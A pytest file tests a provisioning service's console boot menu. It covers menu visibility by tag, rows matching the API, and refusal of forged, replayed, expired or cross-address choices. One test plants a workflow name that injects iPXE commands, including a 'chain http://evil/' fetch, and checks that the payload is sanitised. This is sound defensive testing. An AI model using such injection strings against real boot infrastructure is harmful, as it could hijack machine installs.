"""The console boot menu: who is shown it, and what a choice does (the same rows as the API)."""

import contextlib
import re
from urllib.parse import parse_qs
from urllib.parse import urlsplit

import pytest
from sqlalchemy import Engine
from sqlalchemy import event
from sqlalchemy import select

from provisioner.extensions import db
from provisioner.models import NodeEvent
from provisioner.models import NodeStateLog
from provisioner.models import WebhookDelivery

MAC = "52:54:00:12:34:56"
IP = "192.0.2.10"


@pytest.fixture
def app(build_app):
    return build_app(BOOT_MENU=True)


@contextlib.contextmanager
def every_statement():
    """The SQL every engine runs meanwhile (the boot's single reads use an engine of their
    own on SQLite)."""
    statements: list[str] = []

    def note(conn, cursor, statement, *args):
        statements.append(statement)

    event.listen(Engine, "before_cursor_execute", note)
    try:
        yield statements
    finally:
        event.remove(Engine, "before_cursor_execute", note)


def boot(client, mac=MAC, ip=IP, **params):
    answer = client.get(
        "/api/v1/boot", query_string={"mac": mac, **params}, environ_base={"REMOTE_ADDR": ip}
    )
    assert answer.status_code == 200
    return answer.get_data(as_text=True)


def choice_urls(script):
    return re.findall(r"^chain --autofree (\S+) \|\| goto refused$", script, re.MULTILINE)


def choose(client, url, ip=IP):
    parts = urlsplit(url)
    assert parts.path == "/api/v1/boot/menu"
    return client.get(parts.path, query_string=parts.query, environ_base={"REMOTE_ADDR": ip})


def test_a_new_machine_is_shown_the_menu_that_times_out_into_its_disk(client):
    script = boot(client)
    assert "item --key 1 wf1 1) Test OS (test-os)" in script
    assert "choose --timeout 30000 --default local target || goto local" in script
    local = script.splitlines().index(":local")
    assert script.splitlines()[local + 2] == "exit"
    assert client.get(f"/api/v1/nodes/{MAC}").json["data"]["state"] == "discovered"


def test_the_menu_is_off_by_default(build_app):
    client = build_app().test_client()
    boot(client)
    assert "menu" not in boot(client)


def test_menu_limited_to_tags_and_the_nodes_own_setting(build_app):
    client = build_app(BOOT_MENU=True, BOOT_MENU_TAGS=["lab"]).test_client()
    boot(client)
    assert "choose" not in boot(client)  # no tag
    client.post(f"/api/v1/nodes/{MAC}/tags", json={"tags": ["lab"]})
    assert "choose" in boot(client)
    client.patch(f"/api/v1/nodes/{MAC}", json={"boot_menu": False})
    assert "choose" not in boot(client)
    client.delete(f"/api/v1/nodes/{MAC}/tags/lab")
    client.patch(f"/api/v1/nodes/{MAC}", json={"boot_menu": True})
    assert "choose" in boot(client)


def rows(app, node_id):
    with app.app_context():
        logs = db.session.scalars(
            select(NodeStateLog).where(NodeStateLog.node_id == node_id).order_by(NodeStateLog.id)
        ).all()
        events = db.session.scalars(select(NodeEvent).where(NodeEvent.node_id == node_id)).all()
        hooks = db.session.scalars(select(WebhookDelivery)).all()
        return (
            [(r.from_state, r.to_state, r.triggered_by, r.metadata_) for r in logs],
            [e.event_type for e in events],
            [(h.event, h.payload.get("to_state")) for h in hooks],
        )


def test_a_choice_moves_the_node_with_the_same_rows_as_the_api_then_installs(build_app):
    hook = [{"url": "http://127.0.0.1:9/hook", "events": ["state_changed"]}]
    via_menu = build_app(BOOT_MENU=True, WEBHOOKS=hook)
    client = via_menu.test_client()
    (url,) = choice_urls(boot(client))
    answer = choose(client, url)
    assert answer.status_code == 200
    assert "kernel http://prov.test:8080/files/vmlinuz" in answer.get_data(as_text=True)
    node = client.get(f"/api/v1/nodes/{MAC}").json["data"]
    assert (node["state"], node["workflow_id"]) == ("installing", "test-os")
    menu_rows = rows(via_menu, node["id"])

    # The same through the operator API, on another machine.
    other = "52:54:00:00:00:02"
    boot(client, mac=other)
    client.patch(f"/api/v1/nodes/{other}", json={"workflow_id": "test-os"})
    client.patch(f"/api/v1/nodes/{other}/state", json={"state": "pending"})
    boot(client, mac=other)
    api_node = client.get(f"/api/v1/nodes/{other}").json["data"]
    api_rows = rows(via_menu, api_node["id"])
    assert menu_rows[0] == api_rows[0]
    assert menu_rows[1] == api_rows[1]
    assert menu_rows[0][1][:3] == ("discovered", "pending", "admin")
    history = client.get(f"/api/v1/nodes/{MAC}/history").json["data"]
    assert history[1]["comment"] == f"chosen at the console boot menu (from {IP})"


def test_a_choice_from_another_address_is_refused(app, client):
    (url,) = choice_urls(boot(client))
    answer = choose(client, url, ip="192.0.2.66")
    assert answer.status_code == 403
    assert "not served to this machine" in answer.get_data(as_text=True)
    assert client.get(f"/api/v1/nodes/{MAC}").json["data"]["state"] == "discovered"


def test_a_choice_cannot_be_replayed_once_the_node_moved(app, client, clock):
    (url,) = choice_urls(boot(client))
    clock.advance(seconds=5)
    assert choose(client, url).status_code == 200
    clock.advance(seconds=5)
    client.patch(f"/api/v1/nodes/{MAC}/state", json={"state": "discovered", "force": True})
    assert choose(client, url).status_code == 403
    assert client.get(f"/api/v1/nodes/{MAC}").json["data"]["state"] == "discovered"


def test_a_forged_or_edited_choice_is_refused(app, client):
    (url,) = choice_urls(boot(client))
    query = parse_qs(urlsplit(url).query)
    forged = {key: value[0] for key, value in query.items()} | {"sig": "0" * 64}
    assert client.get("/api/v1/boot/menu", query_string=forged).status_code == 403
    later = {key: value[0] for key, value in query.items()}
    later["expires"] = str(int(later["expires"]) + 3600)
    assert client.get("/api/v1/boot/menu", query_string=later).status_code == 403
    assert client.get("/api/v1/boot/menu", query_string={"mac": MAC}).status_code == 400


def test_a_workflow_not_on_the_menu_is_refused(app, client, workflows_dir):
    (workflows_dir / "arm-os.yaml").write_text(
        "id: arm-os\nname: ARM\narchitecture: arm64\nkernel_path: http://m/k\ninitrd_path: x\n"
    )
    (url,) = choice_urls(boot(client, arch="x86_64"))
    assert choose(client, url.replace("workflow=test-os", "workflow=arm-os")).status_code == 403


def test_an_expired_menu_is_refused(app, client, clock):
    (url,) = choice_urls(boot(client))
    clock.advance(minutes=10)
    answer = choose(client, url)
    assert answer.status_code == 403
    assert "expired" in answer.get_data(as_text=True)


def test_hostile_workflow_names_are_menu_text_only(app, client, workflows_dir):
    (workflows_dir / "evil.yaml").write_text(
        'id: evil\nname: "x ${net0/mac} || shell && chain http://evil/\\n:wf1 #"\n'
        "kernel_path: http://m/k\ninitrd_path: http://m/i\n"
    )
    script = boot(client)
    item = next(line for line in script.splitlines() if "(evil)" in line)
    assert item.startswith("item --key 1 wf1 1) x ")
    for bad in ("${", "||", "&&", "#", "\n"):
        assert bad not in item


def test_a_machine_with_nothing_to_wait_for_costs_no_tag_read(build_app, clock):
    """With BOOT_MENU_TAGS set, only waiting nodes' tags are read: an active node's boot
    stays one read."""
    application = build_app(BOOT_MENU=True, BOOT_MENU_TAGS=["lab"])
    client = application.test_client()
    boot(client)
    client.patch(f"/api/v1/nodes/{MAC}/state", json={"state": "active", "force": True})
    clock.advance(seconds=1)
    boot(client)  # records the sighting
    with every_statement() as statements:
        boot(client)
    assert statements  # the glance itself is seen
    assert not any("node_tags" in s for s in statements)
